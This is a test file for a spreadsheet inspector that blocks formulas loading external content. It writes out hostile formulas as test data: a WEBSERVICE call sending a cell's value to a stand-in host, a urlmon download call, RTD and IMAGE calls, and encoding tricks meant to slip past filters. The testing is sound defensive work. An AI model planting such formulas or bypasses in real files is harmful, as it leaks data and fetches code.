import { expect, test } from 'vitest'
import { SheetPartInspector } from './sheet-part-inspector.ts'

const sheet = (content: string, prolog = '') =>
  Buffer.from(`${prolog}<worksheet><sheetData>${content}</sheetData></worksheet>`)
const cell = (formula: string) => `<row><c r="A1"><f>${formula}</f><v>1</v></c></row>`

/** Inspects the part in chunks, as it is decompressed. */
function inspect(bytes: Buffer, chunkSize = 7) {
  const inspector = new SheetPartInspector()
  for (let offset = 0; offset < bytes.length; offset += chunkSize) {
    const errorCode = inspector.write(bytes.subarray(offset, offset + chunkSize))
    if (errorCode) return errorCode
  }
  return inspector.end()
}

test.each([
  ['that loads from the network', cell('WEBSERVICE(&quot;https://e.example/?x=&quot;&amp;A1)')],
  ['with the prefix that programs write', cell('_xlfn.WEBSERVICE(B2)')],
  ['that loads an image', cell('IF(TRUE,_xlfn.IMAGE (A1),0)')],
  ['that calls another program', cell('RTD("prog.id",,"x")')],
  ['that calls a library', cell('call("urlmon","URLDownloadToFileA")')],
  ['with character references', cell('&#87;EBSERVICE(A1)')],
  ['in a CDATA section', cell('<![CDATA[WEBSERVICE(A1)]]>')],
  ['with another namespace prefix', cell('WEBSERVICE(A1)').replaceAll(/<(\/?)f>/g, '<$1x:f>')],
  ['of a defined name', '<definedName name="a">WEBSERVICE(A1)</definedName>'],
  ['of a data validation', '<dataValidation><formula1>WEBSERVICE(A1)</formula1></dataValidation>'],
])('refuses a formula %s', (_, content) => expect(inspect(sheet(content))).toBe('files.external-content'))

test('refuses a part that declares entities', () => {
  expect(inspect(sheet(cell('&w;(A1)'), '<!DOCTYPE x [<!ENTITY w "WEBSERVICE">]>'))).toBe('files.unreadable')
})

test.each([
  ['that calculates', cell('SUM(A1:A9)*ROUND(B2,2)')],
  ['that links', cell('HYPERLINK("https://www.example.org","Rules")')],
  ['with a forbidden function name in a string', cell('CONCAT("Please call (212) 555 0100, or image (1)","")')],
  ['whose function name only ends alike', cell('RECALL(A1)+my.IMAGE(A1)')],
  ['name in the text of a cell', '<c t="inlineStr"><is><t>WEBSERVICE(x)</t></is></c>'],
])('accepts a formula %s', (_, content) => expect(inspect(sheet(content))).toBeUndefined())
